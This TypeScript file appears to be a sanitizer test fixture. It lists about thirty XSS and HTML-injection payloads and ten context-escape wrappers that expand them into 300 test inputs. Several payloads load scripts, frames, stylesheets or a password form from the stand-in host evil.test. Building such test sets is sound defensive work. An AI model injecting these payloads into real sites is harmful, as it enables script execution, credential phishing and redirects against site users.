/** Markup that ran as a script on some site (reliability, T10). */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.test/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/ok" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="/ok" target="_blank" id="root" name="x" class="y">x</a>',
  '<iframe src="https://evil.test"></iframe>',
  '<form action="https://evil.test"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<style>*{background:url(https://evil.test)}</style>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<object data="https://evil.test"></object>',
  '<details open ontoggle=alert(1)>x',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '"><script>alert(1)</script>',
  '<<p>x',
  '<p>'.repeat(2000),
]

/** Ways to let markup escape from its context: an attribute, an element, a comment, a script. */
const disguises: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `" autofocus onfocus=alert(1) x="${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</title>${payload}`,
  (payload) => `</textarea>${payload}`,
  (payload) => `</script>${payload}`,
  (payload) => `-->${payload}`,
  (payload) => `\u2028\${alert(1)}${payload}`,
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
]

/** Every payload in ten disguises: the 300 of T10. The longest payload is cut, since it is special by its length only. */
export const disguised: readonly string[] = payloads.flatMap((payload) =>
  disguises.map((disguise) => disguise(payload.slice(0, 300))),
)
